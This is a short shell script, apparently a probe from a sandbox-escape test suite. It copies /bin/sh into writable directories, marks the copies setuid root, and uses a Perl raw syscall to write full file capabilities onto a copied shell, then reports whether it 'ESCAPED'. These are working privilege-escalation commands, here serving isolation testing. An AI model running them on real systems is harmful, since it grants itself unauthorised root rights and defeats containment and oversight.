#!/bin/sh
# tries: "to gain rights by a copy of a shell with the set-user bit, or by file capabilities"
# side: both
# intact: [host]
for folder in /tmp /exchange /dev/shm; do
    cp /bin/sh "$folder/shell" && chmod 6755 "$folder/shell"
    [ "$("$folder/shell" -p -c 'id -u')" = 0 ] && echo 'ESCAPED is root'
done
perl -e '$file = "/tmp/shell"; $name = "security.capability"; $value = pack("V5", 0x02000001, 0xffffffff, 0, 0xffffffff, 0);
    syscall(188, $file, $name, $value, 20, 0) == 0 and print "ESCAPED gave itself capabilities\n"'
echo TRIED
